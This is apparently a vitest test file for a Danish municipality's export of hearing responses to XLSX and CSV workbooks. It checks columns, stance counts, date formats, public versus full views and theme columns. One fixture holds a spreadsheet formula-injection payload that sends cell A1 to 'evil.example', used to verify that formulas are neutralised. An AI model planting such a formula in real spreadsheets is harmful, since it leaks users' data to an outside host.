import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { analysisWorkbook, type AnalysisInput, type AnalysisLabel, type AnalysisResponse } from './analysis';
import { writeSheetCsv, writeWorkbookXlsx } from './workbook';

const LABELS: Record<AnalysisLabel, string> = {
  answersSheet: 'Høringssvar', proposalsSheet: 'Forslag', generalRemarksSheet: 'Generelle bemærkninger', minoritySheet: 'Mindretalsudtalelser', nonRespondersSheet: 'Ikke svaret',
  organisation: 'Organisation', organisationType: 'Organisationstype', statutory: 'Lovpligtig', list: 'Liste', committee: 'Udvalg', code: 'Forslag', title: 'Titel', proposalType: 'Forslagstype',
  service: 'Service {year}', transfers: 'Overførsler {year}', stance: 'Holdning', comment: 'Bemærkning', confidential: 'Fortrolig', submittedAt: 'Indsendt', receiptNumber: 'Kvittering',
  generalRemarks: 'Bemærkninger', minorityAuthor: 'Afgivet af', minorityText: 'Udtalelse', noStance: 'Uden holdning', yes: 'Ja', no: 'Nej', hidden: 'Udeladt af forvaltningen.',
  themes: 'Temaer', notes: 'Analytikernes noter',
};
const STANCE_LABELS = { SUPPORT: 'Støtter', OPPOSE: 'Støtter ikke', REMARKS: 'Bemærkninger', NO_REMARKS: 'Ingen bemærkninger' };

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Se bilag")';
const submittedAt = new Date(Date.UTC(2026, 10, 27, 14, 3));
const senior = { name: 'Ældrerådet', organisationType: 'Ældreråd', statutory: true };

// More answers than one chunk, so that the chunked writing is exercised.
const many: AnalysisResponse[] = Array.from({ length: 300 }, (_, i) => ({
  party: { name: `Skolebestyrelsen; Ø-skole ${i}`, organisationType: 'Skolebestyrelse', statutory: false },
  submittedAt,
  receiptNumber: `BH-${i}`,
  generalRemarks: i % 2 ? '' : `Tak for høringen ${i}`,
  minorityStatements: [],
  answers: [
    { proposalId: 'p2', stance: 'OPPOSE', comment: `Linje 1\nLinje 2 for svar ${i}`, confidential: false },
    { proposalId: 'p1', stance: i % 3 ? 'SUPPORT' : null, comment: i === 7 ? null : '', confidential: i === 9 },
  ],
}));

function input(overrides: Partial<AnalysisInput> = {}): AnalysisInput {
  return {
    issuer: 'Æbeltoft Kommune',
    full: true,
    years: [2027, 2028],
    proposals: [
      { id: 'p1', code: 'BUU01', title: 'Færre "pædagoger"', list: 'Indarbejdes', committee: 'Børne- og Ungeudvalget', type: 'Besparelse', service: [-600, -1440], transfers: [0, 0] },
      { id: 'p2', code: 'KFU04a', title: 'Kortere åbningstid', list: 'Indarbejdes ikke', committee: 'KFU', type: 'Merindtægt', service: [-250, -250], transfers: [125, 125] },
    ],
    responses: [
      {
        party: senior, submittedAt, receiptNumber: 'BH-SENIOR', generalRemarks: HYPERLINK,
        minorityStatements: [{ author: 'Karen Jensen', text: 'Jeg er uenig i flertallets svar.' }],
        answers: [{ proposalId: 'p1', stance: 'OPPOSE', comment: '-600', confidential: true }],
      },
      ...many,
    ],
    nonResponders: [{ name: 'Handicaprådet', organisationType: 'Handicapråd', statutory: true }],
    label: (key, params) => LABELS[key].replace('{year}', String(params?.year ?? '')),
    stanceLabel: (stance) => STANCE_LABELS[stance],
    ...overrides,
  };
}

async function load(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  return workbook;
}

const FULL_HEADER = [
  'Organisation', 'Organisationstype', 'Lovpligtig', 'Liste', 'Udvalg', 'Forslag', 'Titel', 'Forslagstype',
  'Service 2027', 'Service 2028', 'Overførsler 2027', 'Overførsler 2028', 'Holdning', 'Bemærkning', 'Fortrolig', 'Indsendt', 'Kvittering',
];

describe('the analysis workbook', () => {
  it('has a sheet each for answers, proposals, general remarks, minority statements and non-responders', async () => {
    const workbook = await load(await writeWorkbookXlsx(analysisWorkbook(input())));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Høringssvar', 'Forslag', 'Generelle bemærkninger', 'Mindretalsudtalelser', 'Ikke svaret']);
    expect(workbook.creator).toBe('Æbeltoft Kommune');
    const answers = workbook.getWorksheet('Høringssvar')!;
    expect((answers.getRow(1).values as unknown[]).slice(1)).toEqual(FULL_HEADER);
    expect(answers.rowCount).toBe(1 + 1 + 300 * 2);
    expect(answers.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('writes amounts as numbers and the submission time as a date', async () => {
    const answers = (await load(await writeWorkbookXlsx(analysisWorkbook(input())))).getWorksheet('Høringssvar')!;
    const row = answers.getRow(2);
    expect(row.getCell(1).value).toBe('Ældrerådet');
    expect(row.getCell(3).value).toBe('Ja');
    expect(row.getCell(9).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(9).value).toBe(-600);
    expect(row.getCell(10).value).toBe(-1440);
    expect(row.getCell(16).type).toBe(ExcelJS.ValueType.Date);
    expect((row.getCell(16).value as Date).toISOString()).toBe('2026-11-27T14:03:00.000Z');
    expect(row.getCell(16).numFmt).toBe('dd-mm-yyyy hh:mm');
    expect(row.getCell(15).value).toBe('Ja');
    // The answers of one response follow the proposals' order, whatever order they were given in.
    expect([answers.getRow(3).getCell(6).value, answers.getRow(4).getCell(6).value]).toEqual(['BUU01', 'KFU04a']);
    expect(answers.getRow(4).getCell(11).value).toBe(125);
  });

  it('keeps comments that look like formulas as text cells', async () => {
    const workbook = await load(await writeWorkbookXlsx(analysisWorkbook(input())));
    const comment = workbook.getWorksheet('Høringssvar')!.getRow(2).getCell(14);
    expect(comment.type).toBe(ExcelJS.ValueType.String);
    expect(comment.value).toBe('-600');
    const remarks = workbook.getWorksheet('Generelle bemærkninger')!.getRow(2).getCell(4);
    expect(remarks.type).toBe(ExcelJS.ValueType.String);
    expect(remarks.value).toBe(HYPERLINK);
    expect(remarks.formula).toBeUndefined();
  });

  it('counts the stances per proposal', async () => {
    const proposals = (await load(await writeWorkbookXlsx(analysisWorkbook(input())))).getWorksheet('Forslag')!;
    const values = (row: number) => (proposals.getRow(row).values as unknown[]).slice(1);
    expect(values(1).slice(-5)).toEqual(['Støtter', 'Støtter ikke', 'Bemærkninger', 'Ingen bemærkninger', 'Uden holdning']);
    // p1: the senior council opposes; of the 300, i % 3 !== 0 support (200), the rest give no stance (100).
    expect(values(2).slice(-5)).toEqual([200, 1, 0, 0, 100]);
    expect(values(3).slice(-5)).toEqual([0, 300, 0, 0, 0]);
    expect(proposals.getRow(2).getCell(9).type).toBe(ExcelJS.ValueType.Number);
  });

  it('lists general remarks that were written, minority statements and the parties that did not respond', async () => {
    const workbook = await load(await writeWorkbookXlsx(analysisWorkbook(input())));
    expect(workbook.getWorksheet('Generelle bemærkninger')!.rowCount).toBe(1 + 1 + 150);
    expect((workbook.getWorksheet('Mindretalsudtalelser')!.getRow(2).values as unknown[]).slice(1, 6)).toEqual(['Ældrerådet', 'Ældreråd', 'Ja', 'Karen Jensen', 'Jeg er uenig i flertallets svar.']);
    expect((workbook.getWorksheet('Ikke svaret')!.getRow(2).values as unknown[]).slice(1)).toEqual(['Handicaprådet', 'Handicapråd', 'Ja']);
  });

  it('has no confidential or receipt columns for the public, and says where moderation hid a comment', async () => {
    const answers = (await load(await writeWorkbookXlsx(analysisWorkbook(input({ full: false }))))).getWorksheet('Høringssvar')!;
    const header = (answers.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(FULL_HEADER.filter((h) => h !== 'Fortrolig' && h !== 'Kvittering'));
    expect(answers.getRow(2).cellCount).toBe(header.length);
    // Answer 7's comment on p1 (sorted first) was hidden.
    expect(answers.getRow(2 + 1 + 7 * 2).getCell(14).value).toBe('Udeladt af forvaltningen.');
  });
});

describe('themes and notes', () => {
  it('has a column of the themes, "; " between them, and one of the notes, after the comment', async () => {
    const base = input();
    const [senior, ...rest] = base.responses;
    const tagged = { ...senior!, answers: [{ ...senior!.answers[0]!, themes: ['Brugerbetaling', 'Konsekvenser for ældre'], notes: ['Ring til rådet.', 'Se også KFU04a.'] }] };
    const answers = (await load(await writeWorkbookXlsx(analysisWorkbook({ ...base, themes: true, notes: true, responses: [tagged, ...rest] })))).getWorksheet('Høringssvar')!;
    const header = (answers.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(12, 17)).toEqual(['Holdning', 'Bemærkning', 'Temaer', 'Analytikernes noter', 'Fortrolig']);
    expect(answers.getRow(2).getCell(15).value).toBe('Brugerbetaling; Konsekvenser for ældre');
    expect(answers.getRow(2).getCell(16).value).toBe('Ring til rådet.\n\nSe også KFU04a.');
    // An untagged answer's cells are empty, and the columns after them stay in place.
    expect(answers.getRow(3).getCell(15).value).toBeNull();
    expect(answers.getRow(3).getCell(17).value).toBe('Nej');
  });

  it('leaves both columns out unless asked for', async () => {
    const answers = (await load(await writeWorkbookXlsx(analysisWorkbook(input({ full: false }))))).getWorksheet('Høringssvar')!;
    expect((answers.getRow(1).values as unknown[]).slice(1)).not.toContain('Temaer');
    expect((answers.getRow(1).values as unknown[]).slice(1)).not.toContain('Analytikernes noter');
  });
});

describe('the CSV', () => {
  it('has the answer sheet\'s columns, numbers unquoted, dates Excel reads, formulas neutralised', async () => {
    const text = await writeSheetCsv(analysisWorkbook(input()).sheets[0]!);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows: string[][] = parse(text.slice(1), { delimiter: ';' });
    expect(rows[0]).toEqual(FULL_HEADER);
    expect(rows).toHaveLength(1 + 1 + 600);
    expect(rows[1]!.slice(8, 12)).toEqual(['-600', '-1440', '0', '0']);
    expect(text.split('\r\n')[1]).toContain(';-600;-1440;0;0;');
    expect(rows[1]![13]).toBe("'-600");
    expect(rows[1]![15]).toBe('2026-11-27 14:03');
    expect(rows[2]![0]).toBe('Skolebestyrelsen; Ø-skole 0');
  });
});
